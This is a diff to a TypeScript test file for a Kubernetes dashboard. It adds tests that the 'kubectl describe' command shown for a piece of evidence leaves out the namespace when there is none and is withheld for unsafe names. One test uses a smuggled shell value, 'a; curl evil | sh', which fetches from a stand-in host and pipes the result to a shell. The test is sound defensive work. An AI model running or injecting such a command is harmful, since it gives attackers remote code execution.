@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { conditionViews } from './conditions.ts';
-import { healthBadge, healthView } from './health.ts';
+import { evidenceViews, healthBadge, healthView } from './health.ts';
 import { workloadsView } from './workloads.ts';
 
 const nowMs = Date.parse('2026-11-24T10:00:00Z');
@@ -88,6 +88,20 @@ describe('the health card', () => {
         command: 'kubectl describe pod a-1 -n n',
       },
     ]);
+  });
+});
+
+describe('the command of a piece of evidence', () => {
+  const commandFor = (object: { kind: string; namespace: string; name: string }) =>
+    evidenceViews([{ ...object, reason: 'X' }], 'evidence')[0]?.command;
+
+  it('names no namespace for what has none', () => {
+    expect(commandFor({ kind: 'Node', namespace: '', name: 'n1' })).toBe('kubectl describe node n1');
+  });
+
+  it('is not there where a name would mean more to a shell', () => {
+    expect(commandFor({ kind: 'ConfigMap', namespace: 'n', name: 'a; curl evil | sh' })).toBeUndefined();
+    expect(commandFor({ kind: 'ConfigMap', namespace: 'n', name: '--all' })).toBeUndefined();
   });
 });
 
